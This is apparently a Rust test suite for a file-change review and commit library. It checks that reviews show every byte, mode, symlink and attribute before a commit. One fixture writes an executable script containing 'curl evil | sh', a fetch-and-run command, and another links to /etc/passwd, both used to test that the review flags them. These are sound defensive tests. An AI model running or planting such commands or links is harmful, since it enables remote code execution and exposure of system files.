//! What a review shows is what a commit writes: every byte, mode, kind and target, and nothing else.

use std::collections::{BTreeMap, BTreeSet};
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;

use handfast::{ErrorKind, FileKind, RenameMode};
use handfast_session::change::{Content, Flag, Form, Hunk, NotShown, Tag};
use handfast_session::{Change, CommitOptions, DiffKind, Mode, ReviewOptions, Session};
use sha2::{Digest, Sha256};

use crate::support::{Scratch, kind, v};

pub fn review(session: &Session) -> Vec<Change> {
    let options = ReviewOptions {
        text_limit: ReviewOptions::FULL,
        ..ReviewOptions::default()
    };
    let mut all = Vec::new();
    let mut take = |change| {
        all.push(change);
        Ok(())
    };
    session.review(&options, &mut take).unwrap();
    all
}

pub fn of(session: &Session, path: &str) -> Change {
    let mut all = review(session).into_iter();
    all.find(|change| change.path == v(path)).unwrap()
}

fn digest(content: &[u8]) -> String {
    let digest = Sha256::digest(content);
    digest.iter().map(|byte| format!("{byte:02x}")).collect()
}

/// The old content with hunks applied, by nothing but what the data says.
pub fn applied(before: &[u8], hunks: &[Hunk]) -> Vec<u8> {
    let old: Vec<&[u8]> = before.split_inclusive(|byte| *byte == b'\n').collect();
    let (mut made, mut at) = (Vec::new(), 0);
    for hunk in hunks {
        made.extend(old[at..hunk.old.0].concat());
        at = hunk.old.0;
        for line in &hunk.lines {
            if line.tag != Tag::Added {
                assert_eq!(old[at], line.bytes, "what goes or stays is what is there");
                at += 1;
            }
            if line.tag != Tag::Removed {
                made.extend_from_slice(&line.bytes);
            }
        }
    }
    made.extend(old[at..].concat());
    made
}

/// Every path of a directory: kind, mode, and digest and attributes, or target.
fn facts(dir: &Path) -> BTreeMap<String, String> {
    let mut found = BTreeMap::new();
    let mut pending = vec![dir.to_owned()];
    while let Some(at) = pending.pop() {
        for entry in std::fs::read_dir(&at).unwrap() {
            let path = entry.unwrap().path();
            let status = std::fs::symlink_metadata(&path).unwrap();
            let mode = status.permissions().mode() & 0o7777;
            let text = if status.is_dir() {
                pending.push(path.clone());
                format!("dir {mode:o}")
            } else if status.is_symlink() {
                let target = std::fs::read_link(&path).unwrap();
                format!("link {}", target.display())
            } else {
                let digest = digest(&std::fs::read(&path).unwrap());
                format!("file {mode:o} {digest} {:?}", attributes(&path))
            };
            let name = path.strip_prefix(dir).unwrap().as_os_str().as_bytes();
            found.insert(format!("/{}", str::from_utf8(name).unwrap()), text);
        }
    }
    found
}

/// What a path leads to after a commit, according to the data.
fn told(change: &Change) -> String {
    let after = change.after.as_ref().unwrap();
    match after.kind {
        FileKind::Dir => match after.mode {
            Some(mode) => format!("dir {mode:o}"),
            None => "dir".to_owned(),
        },
        FileKind::Symlink => {
            let target = after.target.as_deref().unwrap();
            format!("link {}", str::from_utf8(target).unwrap())
        }
        _ => format!(
            "file {:o} {} {:?}",
            after.mode.unwrap(),
            after.digest.as_ref().unwrap(),
            after.xattrs
        ),
    }
}

/// A file's attributes in `user.`.
fn attributes(path: &Path) -> Vec<String> {
    let mut names = vec![0; 4096];
    let len = rustix::fs::llistxattr(path, names.as_mut_slice()).unwrap_or(0);
    let names = names[..len].split(|byte| *byte == 0);
    let names = names.map(|name| String::from_utf8_lossy(name).into_owned());
    let names = names.filter(|name| name.starts_with("user."));
    let with_value = |name: String| {
        let mut value = vec![0; 4096];
        let len = rustix::fs::lgetxattr(path, &*name, value.as_mut_slice()).unwrap();
        format!("{name}={}", String::from_utf8_lossy(&value[..len]))
    };
    names.map(with_value).collect()
}

/// Where the base has what was changed: directories above it may have moved.
fn origin(all: &[Change], change: &Change) -> String {
    if let Some(from) = &change.from {
        return from.to_string();
    }
    let path = change.path.to_string();
    let above = all.iter().filter_map(|moved| {
        let rest = path.strip_prefix(&moved.path.to_string())?;
        let from = moved.from.as_ref().filter(|_| rest.starts_with('/'))?;
        Some((moved.path.to_string().len(), format!("{from}{rest}")))
    });
    above.max().map_or(path.clone(), |(_, origin)| origin)
}

/// The base as it is after a commit, by the data alone.
fn expected(mut base: BTreeMap<String, String>, all: &[Change]) -> BTreeMap<String, String> {
    let is_below = |path: &str, dir: &str| path == dir || path.starts_with(&format!("{dir}/"));
    let mut moves: Vec<(String, String)> = all
        .iter()
        .filter_map(|change| Some((change.from.as_ref()?.to_string(), change.path.to_string())))
        .collect();
    moves.sort_by_key(|(from, _)| std::cmp::Reverse(from.len()));
    let mut lifted = Vec::new();
    for (from, to) in moves {
        let below: Vec<String> = base
            .keys()
            .filter(|path| is_below(path, &from))
            .cloned()
            .collect();
        for path in below {
            let fact = base.remove(&path).unwrap();
            lifted.push((format!("{to}{}", &path[from.len()..]), fact));
        }
    }
    base.extend(lifted);
    for change in all.iter().filter(|change| change.after.is_none()) {
        base.remove(&change.path.to_string());
    }
    for change in all.iter().filter(|change| change.after.is_some()) {
        base.insert(change.path.to_string(), told(change));
    }
    base
}

pub struct Random(pub u64);

impl Random {
    pub fn below(&mut self, end: u64) -> u64 {
        self.0 = self
            .0
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1);
        (self.0 >> 33) % end
    }

    fn path(&mut self) -> String {
        let name = |n| ["a", "b", "c", "run.sh", "d"][n as usize];
        match self.below(2) {
            0 => format!("/{}", name(self.below(5))),
            _ => format!(
                "/{}/{}",
                ["d", "e"][self.below(2) as usize],
                name(self.below(5))
            ),
        }
    }

    fn content(&mut self) -> Vec<u8> {
        let mut text: Vec<u8> = (0..self.below(30))
            .flat_map(|_| format!("line {}\n", self.below(6)).into_bytes())
            .collect();
        match self.below(6) {
            0 => text.push(0),
            1 => text = vec![0xff; 20],
            2 => text.extend_from_slice(b"no end"),
            3 => text.extend_from_slice("\u{202e}hidden\r\n".as_bytes()),
            _ => {}
        }
        text
    }

    /// Something that may fail.
    pub fn change(&mut self, session: &Session) {
        let (path, other) = (self.path(), self.path());
        let mode = [0o700, 0o755, 0o744, 0o711][self.below(4) as usize];
        let content = self.content();
        drop(match self.below(9) {
            0..3 => session.write(path, content).map(drop),
            3 => session.append(path, content).map(drop),
            4 => session.remove_file(path),
            5 => session.create_dir(path),
            6 => session.symlink("a", path),
            7 => session.chmod(path, mode),
            _ => session.rename(path, other, RenameMode::NoReplace),
        });
    }
}

pub fn furnish(s: &Scratch, random: &mut Random) {
    s.dir("d")
        .dir("e")
        .file("d/file", "one\ntwo\n")
        .link("a", "link");
    for _ in 0..4 {
        let path = random.path();
        if s.at(&path[1..]).symlink_metadata().is_err()
            && s.at(&path[1..]).parent().unwrap().is_dir()
        {
            s.file(&path[1..], random.content());
        }
    }
}

/// A file with two names, and one with an attribute.
fn link_and_attribute(s: &Scratch) {
    s.file("d/a", "both\n").file("d/b", "attributed\n").dir("e");
    std::fs::hard_link(s.at("d/a"), s.at("e/a")).unwrap();
    let flags = rustix::fs::XattrFlags::empty();
    if rustix::fs::setxattr(s.at("d/b"), "user.note", b"x", flags).is_err() {
        crate::support::skip("attributes in a review", "this filesystem has none");
    }
}

#[test]
fn what_is_shown_is_what_a_commit_writes_and_nothing_else() {
    let mut kinds = BTreeSet::new();
    let (mut told_apart, mut lost, mut linked) = (false, false, 0);
    for seed in 0..120 {
        let mut random = Random(seed);
        let s = Scratch::new();
        link_and_attribute(&s);
        furnish(&s, &mut random);
        let session = s.session(Mode::Overlay);
        for _ in 0..1 + random.below(14) {
            random.change(&session);
        }
        let all = review(&session);
        let before = facts(&s.base());
        for change in &all {
            kinds.insert((change.kind, change.content_kind()));
            let old = origin(&all, change);
            if let Content::Hunks(hunks) = &change.content {
                let content = match change.kind {
                    DiffKind::Added => Vec::new(),
                    _ => std::fs::read(s.at(&old[1..])).unwrap_or_default(),
                };
                let side = change.after.as_ref();
                let wanted = side.and_then(|side| side.digest.clone());
                let wanted = wanted.unwrap_or_else(|| digest(b""));
                assert_eq!(
                    digest(&applied(&content, hunks)),
                    wanted,
                    "{seed} {change:#?}"
                );
            }
        }
        let report = session
            .commit(&CommitOptions::default(), &mut |_, _| {})
            .unwrap();
        if !report.conflicts.is_empty() {
            // Both names of one file: the commit of the first changes the file of the second.
            let both = [v("/d/a"), v("/e/a")];
            let changed = |name| {
                all.iter()
                    .any(|change| change.path == name || change.from.as_ref() == Some(&name))
            };
            assert!(both.into_iter().all(changed), "{seed} {report:?}");
            linked += 1;
            continue;
        }
        let (mut wanted, mut now) = (expected(before, &all), facts(&s.base()));
        for (path, fact) in &wanted.clone() {
            if fact == "dir" {
                // The umask decides about its mode.
                now.entry(path.clone()).and_modify(|fact| fact.truncate(3));
                wanted.insert(path.clone(), "dir".to_owned());
            }
        }
        assert_eq!(now, wanted, "{seed} {all:#?}");
        for change in &all {
            let (Some(before), Some(after)) = (&change.before, &change.after) else {
                continue;
            };
            let at = s.at(&change.path.to_string()[1..]);
            if before.kind == FileKind::File && after.kind == FileKind::File {
                // Other names keep the old file, and a file that was written is a new one.
                let names = std::fs::metadata(at).unwrap().nlink();
                assert_eq!(names, after.names, "{seed} {change:?}");
                let apart = after.names < before.names;
                assert_eq!(
                    change.flags.contains(&Flag::OtherNames),
                    apart,
                    "{change:?}"
                );
                let loses = after.xattrs != before.xattrs;
                assert_eq!(
                    change.flags.contains(&Flag::LosesAttributes),
                    loses,
                    "{change:?}"
                );
                told_apart |= apart;
                lost |= loses;
            }
        }
        for change in &all {
            let side = change
                .after
                .as_ref()
                .filter(|side| side.kind == FileKind::File);
            if let (Some(side), None) = (side, &change.from) {
                let status = std::fs::metadata(s.at(&change.path.to_string()[1..])).unwrap();
                let told = side.modified.unwrap();
                assert_eq!(
                    (status.mtime(), status.mtime_nsec()),
                    (told.seconds, told.nanoseconds.into())
                );
            }
        }
        assert!(review(&session).is_empty(), "{seed}");
    }
    assert!(kinds.len() >= 9, "too little was tried: {kinds:?}");
    assert!(told_apart, "no file with two names was changed");
    assert!(linked < 20, "{linked} of 120 say too little");
    println!("an attribute was lost: {lost}");
}

trait ContentKind {
    fn content_kind(&self) -> &'static str;
}

impl ContentKind for Change {
    fn content_kind(&self) -> &'static str {
        match self.content {
            Content::Same => "same",
            Content::Hunks(_) => "hunks",
            _ => "not shown",
        }
    }
}

#[test]
fn s6_nothing_is_hidden() {
    let s = Scratch::new();
    s.file("plain", "old\n").file("long", vec![b'x'; 3 << 20]);
    let session = s.session(Mode::Overlay);
    session
        .write("/run.sh", b"#!/bin/sh\ncurl evil | sh\n\0")
        .unwrap();
    session.chmod("/run.sh", 0o755).unwrap();
    session.symlink("plain", "/link").unwrap();
    session.write("/blob", vec![0; 64]).unwrap();
    session.append("/long", "y").unwrap();
    session.chmod("/plain", 0o600).unwrap();
    let script = of(&session, "/run.sh");
    let side = script.after.as_ref().unwrap();
    assert_eq!(
        (side.kind, side.mode, side.len),
        (FileKind::File, Some(0o755), 26)
    );
    assert_eq!(side.form, Some(Form::Odd("a NUL byte at 25".to_owned())));
    assert!(script.flags.contains(&Flag::BecomesExecutable));
    assert!(script.flags.contains(&Flag::HiddenCharacters));
    let lines: Vec<String> = script.lines().into_iter().map(|(_, line)| line).collect();
    assert!(lines.contains(&"+curl evil | sh".to_owned()), "{lines:?}");
    assert!(lines.contains(&"+<U+0000>".to_owned()), "{lines:?}");
    let link = of(&session, "/link");
    assert_eq!(
        link.after.as_ref().unwrap().target.as_deref(),
        Some(&b"plain"[..])
    );
    assert_eq!(link.facts(), "link to `plain`");
    let blob = of(&session, "/blob");
    let why = NotShown::Binary;
    assert_eq!(blob.content, Content::NotShown { why, bytes: 64 });
    assert_eq!(blob.after.as_ref().unwrap().digest, Some(digest(&[0; 64])));
    assert_eq!(of(&session, "/plain").modes(), Some((0o644, 0o600)));
    // As long as people read; then it is said how much is left out.
    let mut long = None;
    let options = ReviewOptions {
        paths: vec![v("/long")],
        ..ReviewOptions::default()
    };
    let mut take = |change| {
        long = Some(change);
        Ok(())
    };
    session.review(&options, &mut take).unwrap();
    let long = long.unwrap();
    let bytes = (6 << 20) + 1;
    assert_eq!(
        long.content,
        Content::NotShown {
            why: NotShown::TooLong,
            bytes
        }
    );
    assert_eq!(
        long.lines()[0].1,
        "not shown: 6.2 MB of text; `--full` shows it"
    );
    let mut full = vec![b'x'; 3 << 20];
    full.push(b'y');
    assert_eq!(long.after.as_ref().unwrap().digest, Some(digest(&full)));
}

#[test]
fn l3_links_that_lead_outside_are_flagged() {
    let s = Scratch::new();
    s.dir("x/y").link("/etc/passwd", "x/away");
    let session = s.session(Mode::Overlay);
    session.symlink("../a", "/x/inside").unwrap();
    session.rename("/x", "/z", RenameMode::NoReplace).unwrap();
    session.symlink("y", "/z/w").unwrap();
    assert!(of(&session, "/z/w").flags.is_empty());
    // The rename brings nothing closer to the top: the link still stays inside.
    assert!(of(&session, "/z/inside").flags.is_empty());
    session
        .rename("/z/inside", "/inside", RenameMode::NoReplace)
        .unwrap();
    let link = of(&session, "/inside");
    assert_eq!(link.flags, [Flag::LeadsOutside]);
    assert_eq!(link.facts(), "link to `../a`, leads outside");
}

#[test]
fn s6_a_commit_is_about_what_was_shown() {
    let s = Scratch::new();
    s.file("a", "old a\n").file("b", "old b\n");
    let session = s.session(Mode::Overlay);
    session.write("/a", "new a\n").unwrap();
    session.write("/b", "new b\n").unwrap();
    session.create_dir("/d").unwrap();
    session.write("/d/file", "x").unwrap();
    assert_eq!(
        kind(session.chosen(&[v("/none")], &[])),
        ErrorKind::NotFound
    );
    let none = CommitOptions {
        paths: vec![v("/none")],
        ..CommitOptions::default()
    };
    assert_eq!(
        kind(session.commit(&none, &mut |_, _| {})),
        ErrorKind::NotFound
    );
    assert_eq!(kind(session.discard(&[v("/none")])), ErrorKind::NotFound);
    let (chosen, shown) = session.chosen(&[v("/d/file")], &[]).unwrap();
    assert_eq!(
        chosen,
        [v("/d"), v("/d/file")],
        "with the directory that it needs"
    );
    let options = CommitOptions {
        paths: vec![v("/d/file")],
        shown: Some(shown),
        ..CommitOptions::default()
    };
    // Something else is none of its business; what was shown is.
    session.write("/a", "newer a\n").unwrap();
    session.append("/d/file", "y").unwrap();
    assert_eq!(
        kind(session.commit(&options, &mut |_, _| {})),
        ErrorKind::Stale
    );
    assert!(!s.at("d").exists());
    let (_, shown) = session.chosen(&[v("/d/file")], &[]).unwrap();
    let options = CommitOptions {
        shown: Some(shown),
        ..options
    };
    let report = session.commit(&options, &mut |_, _| {}).unwrap();
    assert_eq!(report.committed, [v("/d"), v("/d/file")]);
    assert_eq!(
        (s.read("d/file"), s.read("a")),
        ("xy".to_owned(), "old a\n".to_owned())
    );
}

#[test]
fn what_the_bases_ignore_files_name_is_known_and_left_out_unless_asked_for() {
    let s = Scratch::new();
    s.file(".gitignore", "target/\n*.log\n!keep.log\n")
        .file("sub/.gitignore", "!special.log\n/local\n")
        .file("target/old", "x");
    let session = s.session(Mode::Overlay);
    // The session's own ignore file hides nothing.
    session.write("/.gitignore", "evil\n").unwrap();
    session.create_dir("/build").unwrap();
    for path in [
        "/evil",
        "/target/old",
        "/target/new",
        "/a.log",
        "/keep.log",
        "/sub/b.log",
        "/sub/special.log",
        "/sub/local",
        "/build/x",
        "/build/y.log",
    ] {
        session.write(path, "new\n").unwrap();
    }
    let found: Vec<String> = review(&session)
        .into_iter()
        .filter(|change| change.ignored)
        .map(|change| change.path.to_string())
        .collect();
    let ignored = [
        "/a.log",
        "/build/y.log",
        "/sub/b.log",
        "/sub/local",
        "/target/new",
        "/target/old",
    ];
    assert_eq!(found, ignored);
    let left = session.ignored(&[]).unwrap();
    assert_eq!(left, ignored.map(v));
    // A path that is named itself is asked for; one above it is not.
    assert_eq!(session.ignored(&[v("/target/new")]).unwrap(), []);
    assert_eq!(
        session.ignored(&[v("/sub")]).unwrap(),
        [v("/sub/b.log"), v("/sub/local")]
    );
    let (chosen, shown) = session.chosen(&[], &left).unwrap();
    let options = CommitOptions {
        shown: Some(shown),
        leave_out: left,
        ..CommitOptions::default()
    };
    let report = session.commit(&options, &mut |_, _| {}).unwrap();
    assert_eq!(report.committed, chosen);
    assert!(s.at("build/x").exists() && !s.at("build/y.log").exists());
    assert_eq!(s.read("target/old"), "x");
    assert_eq!(session.diff().unwrap().len(), ignored.len());
    let all = session.commit(&CommitOptions::default(), &mut |_, _| {});
    assert_eq!(all.unwrap().committed.len(), ignored.len());
}

#[test]
fn content_that_was_not_shown_is_not_written() {
    let s = Scratch::new();
    s.file("a", "old\n");
    let session = s.session(Mode::Overlay);
    session.write("/a", "seen\n").unwrap();
    session.write("/b", "seen\n").unwrap();
    let seen = review(&session);
    session.write("/a", "evil\n").unwrap();
    // Whatever the seal says, the content decides.
    let (_, mut shown) = session.chosen(&[], &[]).unwrap();
    seen.iter().for_each(|change| shown.note(change));
    let options = CommitOptions {
        shown: Some(shown),
        ..CommitOptions::default()
    };
    let report = session.commit(&options, &mut |_, _| {}).unwrap();
    assert_eq!(report.committed, [v("/b")]);
    let (path, why) = &report.conflicts[0];
    assert_eq!(*path, v("/a"));
    assert!(why.contains("since it was shown"), "{why}");
    assert_eq!(s.read("a"), "old\n");
    assert_eq!(session.read("/a").unwrap(), b"evil\n");
}
